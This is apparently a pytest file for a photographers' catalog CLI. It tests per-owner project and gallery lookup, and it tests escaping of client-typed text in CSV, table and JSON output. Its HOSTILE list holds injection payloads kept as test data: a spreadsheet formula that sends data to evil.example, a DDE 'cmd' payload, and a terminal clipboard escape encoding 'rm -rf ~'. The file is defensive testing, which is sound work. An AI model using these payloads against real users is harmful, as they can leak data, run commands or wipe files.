"""What the CLI sees and prints: the local user's projects (a web user's "Smith wedding" does
not make the photographer's ambiguous), every user's with --all-users and whose each is, and
nothing a client typed into a gallery acts on the photographer's terminal or spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import pytest

from kilo.catalog import Catalog, open_catalog
from kilo.clock import new_id, utcnow
from kilo.errors import InvalidInput, NotFound
from kilo.gallery import create_gallery
from kilo.gallery.visitors import add_comment, open_gallery, start_visit, submit_selection
from kilo.projects import create_project, lookup_owned, resolve_project
from kilo.settings import load_settings
from kilo_cli import output
from support.cli import run
from support.cull_data import add_asset

GOLDEN = Path(__file__).parents[1] / "golden" / "tables"
EXAMPLES = Path(__file__).parents[2] / "examples" / "photos"
WEB_EMAIL = "web@example.com"


def _add_user(catalog: Catalog, email: str) -> str:
    uid = new_id()
    catalog.execute(
        "INSERT INTO users (id, email, display_name, created_at) VALUES (?, ?, ?, ?)",
        [uid, email, email.split("@")[0], utcnow()],
    )
    return uid


def _two_smith_weddings(home: Path) -> dict[str, str]:
    """The photographer's (local user's) "Smith wedding" and a web user's, each with a photo
    and a gallery titled "Proofs"; ids and emails by name."""
    with open_catalog(load_settings(home=home)) as cat:
        web = _add_user(cat, WEB_EMAIL)
        mine = create_project(cat, "Smith wedding")
        theirs = create_project(cat, "Smith wedding", owner_user_id=web)
        photo = EXAMPLES / "cv_leuvenA.jpg"
        mine_asset = add_asset(cat, mine.id, photo, utcnow())
        theirs_asset = add_asset(cat, theirs.id, photo, utcnow())
        g_mine = create_gallery(cat, mine.id, title="Proofs", asset_ids=[mine_asset])
        g_theirs = create_gallery(cat, theirs.id, title="Proofs", asset_ids=[theirs_asset])
        local_email = str(cat.scalar("SELECT email FROM users WHERE id = ?", [cat.local_user_id]))
    return {
        "mine": mine.id,
        "theirs": theirs.id,
        "web": web,
        "local_email": local_email,
        "g_mine": g_mine.id,
        "g_theirs": g_theirs.id,
    }


def test_the_cli_sees_the_local_users_projects_and_all_users_with_a_flag(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ids = _two_smith_weddings(home)
    # the photographer's own, by title, by the start of it and by id prefix
    for ref in ("Smith wedding", "smith", ids["mine"][:8]):
        code, out, err = run(capsys, "project", "show", ref, "--json")
        assert code == 0, (ref, err)
        assert json.loads(out)["id"] == ids["mine"]
    code, out, _ = run(capsys, "project", "list", "--json")
    assert [p["id"] for p in json.loads(out)] == [ids["mine"]]
    # every command taking a project takes the title
    for args in (
        ["assets", "list", "Smith wedding"],
        ["clusters", "list", "Smith wedding"],
        ["jobs", "list", "Smith wedding"],
    ):
        code, out, err = run(capsys, *args, "--json")
        assert code == 0, (args, err)
    code, out, _ = run(capsys, "assets", "list", "Smith wedding", "--json")
    assert [a["projectId"] for a in json.loads(out)] == [ids["mine"]]
    # the web user's project is not the photographer's, and the error says how to see it
    code, out, err = run(capsys, "project", "show", ids["theirs"][:8])
    assert code == 2 and out == ""
    assert "among your projects" in err and "--all-users" in err
    # the administrator's view: both, with whose each is
    code, out, _ = run(capsys, "project", "list", "--all-users", "--json")
    assert {p["id"] for p in json.loads(out)} == {ids["mine"], ids["theirs"]}
    code, out, _ = run(capsys, "--all-users", "project", "show", ids["theirs"][:8])
    assert code == 0 and WEB_EMAIL in out
    code, out, err = run(capsys, "--all-users", "project", "show", "Smith wedding")
    assert code == 2 and out == ""
    assert "several projects are titled 'Smith wedding'" in err
    assert ids["mine"][:8] in err and ids["theirs"][:8] in err
    assert WEB_EMAIL in err and ids["local_email"] in err


def test_galleries_of_the_local_user_and_ambiguity_names_project_and_owner(
    home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    ids = _two_smith_weddings(home)
    code, out, err = run(capsys, "gallery", "show", "proofs", "--json")
    assert code == 0, err
    assert json.loads(out)["id"] == ids["g_mine"]
    code, out, _ = run(capsys, "gallery", "list", "--json")
    assert [g["id"] for g in json.loads(out)] == [ids["g_mine"]]
    code, out, _ = run(capsys, "gallery", "list", "--all-users", "--json")
    assert {g["id"] for g in json.loads(out)} == {ids["g_mine"], ids["g_theirs"]}
    monkeypatch.setenv("KILO_ALL_USERS", "1")  # the setting does what the flag does
    code, out, err = run(capsys, "gallery", "show", "Proofs")
    assert code == 2
    assert "several galleries are titled 'Proofs'" in err
    assert err.count('in "Smith wedding"') == 2 and WEB_EMAIL in err


def test_the_library_looks_up_among_one_owners_projects(catalog: Catalog) -> None:
    web = _add_user(catalog, WEB_EMAIL)
    mine = create_project(catalog, "Smith wedding")
    theirs = create_project(catalog, "Smith wedding", owner_user_id=web)
    create_project(catalog, "Smithson engagement", owner_user_id=web)
    local = catalog.local_user_id
    assert resolve_project(catalog, "smith", owner_user_id=local).id == mine.id
    assert resolve_project(catalog, "Smith wedding", owner_user_id=web).id == theirs.id
    assert resolve_project(catalog, "smithson", owner_user_id=web).title == "Smithson engagement"
    with pytest.raises(NotFound):
        resolve_project(catalog, theirs.id, owner_user_id=local)  # a whole id, not theirs
    with pytest.raises(InvalidInput, match="several projects' titles start with 'Smith'") as why:
        lookup_owned(catalog, "projects", "Smith", owner_user_id=web)
    assert '"Smith wedding"' in str(why.value) and '"Smithson engagement"' in str(why.value)
    with pytest.raises(InvalidInput, match=f"owner {WEB_EMAIL}"):
        resolve_project(catalog, "Smith wedding")  # every user's: two of them


@pytest.mark.parametrize("width", [80, 200])
def test_all_users_listing_golden(
    home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, width: int
) -> None:
    """The owner column of the administrator's view (tests/golden/tables)."""
    _two_smith_weddings(home)
    monkeypatch.setenv("COLUMNS", str(width))
    output._consoles.clear()
    code, out, err = run(capsys, "project", "list", "--all-users")
    assert code == 0, err
    assert all(len(line) <= width for line in out.splitlines())
    left_out = "".join(f"stderr: {e}\n" for e in err.splitlines() if e.startswith("left out"))
    text = re.sub(r"\b[0-9a-f]{8}\b", "<id-hex>", out + left_out)
    text = re.sub(r"\d{4}-\d\d-\d\d \d\d:\d\d", "YYYY-MM-DD hh:mm", text)
    path = GOLDEN / f"projects_all_users_{width}.txt"
    if os.environ.get("KILO_UPDATE_GOLDEN") == "1":
        path.write_text(text)
    assert text == path.read_text(), text
    output._consoles.clear()


# -- what a gallery client typed, as the photographer sees it ------------------------------
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\x1b]52;c;cm0gLXJmIH4=\x07 clipboard",
    "\x1b[2J\x1b[Hscreen cleared",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1+1",
    "carriage\r return\x9b31m",
    "right\u202eto left",
]
NAME = "-2+3 \x1b[31mAnna"


def _hostile_gallery(home: Path) -> None:
    with open_catalog(load_settings(home=home)) as cat:
        project = create_project(cat, "Smith wedding")
        aid = add_asset(cat, project.id, EXAMPLES / "cv_leuvenA.jpg", utcnow())
        g = create_gallery(cat, project.id, title="Proofs", asset_ids=[aid])
        visit = start_visit(cat, open_gallery(cat, g.share_slug))[1]
        for text in HOSTILE:
            add_comment(cat, visit, aid, text)
        from kilo.gallery.visitors import set_favorite

        set_favorite(cat, visit, aid, True)
        submit_selection(cat, visit, NAME)


_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _no_terminal_controls(text: str) -> None:
    found = _CONTROLS.search(text)
    assert found is None, repr(text[max(0, found.start() - 40) : found.end() + 40])


def test_client_text_cannot_run_in_a_spreadsheet_or_act_on_the_terminal(
    home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    _hostile_gallery(home)
    code, out, err = run(capsys, "gallery", "activity", "proofs", "--csv")
    assert code == 0, err
    _no_terminal_controls(out.replace("\r\n", "\n"))
    rows = list(csv.DictReader(io.StringIO(out)))
    texts = [r["text"] for r in rows if r["kind"] in ("comment", "submit")]
    assert len(texts) == len(HOSTILE) + 1
    for cell in texts:  # OWASP: no cell starts a formula
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'=HYPERLINK(" in texts[0]
    assert texts[1].startswith("\\x1b]52;c;") and "\\x07" in texts[1]
    assert texts[2] == "\\x1b[2J\\x1b[Hscreen cleared"
    assert texts[3:6] == ["'+1+cmd|' /C calc'!A0", "'@SUM(1)", "'-1+1"]
    assert texts[6] == "carriage\\x0d return\\x9b31m" and texts[7] == "right\\u202eto left"
    # the counts stay numbers
    code, out, _ = run(capsys, "gallery", "activity", "proofs", "--by", "visitor", "--csv")
    summary = list(csv.DictReader(io.StringIO(out)))
    assert summary[0]["comments"] == str(len(HOSTILE))
    # the tables: escaped, as written
    monkeypatch.setenv("COLUMNS", "400")
    output._consoles.clear()
    for args in (["gallery", "activity", "proofs"], ["gallery", "selections", "proofs"]):
        code, out, err = run(capsys, *args)
        assert code == 0, err
        _no_terminal_controls(out + err)
    assert "\\x1b[31mAnna" in out  # the submitted name, shown as text
    # JSON keeps the data (escapes parse back to it) with nothing raw for a terminal
    code, out, _ = run(capsys, "gallery", "activity", "proofs", "--json")
    _no_terminal_controls(out)
    parsed = [a["text"] for a in json.loads(out) if a["kind"] == "comment"]
    assert parsed == [t.strip() for t in HOSTILE]
    output._consoles.clear()


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("\tleading tab", "'\tleading tab"),  # a tab is kept, behind the quote
        ("\r=1+1", "\\x0d=1+1"),  # the CR shown as text: no formula left
        ("  =1+1", "'  =1+1"),
        ("\uff1dSUM(1)", "'\uff1dSUM(1)"),  # a full-width equals sign
        ("line one\r\nline two", "line one\nline two"),
        ('fine, "quoted"', 'fine, "quoted"'),
        (3, 3),
    ],
)
def test_csv_cells(text: object, cell: object) -> None:
    assert output.csv_cell(text) == cell
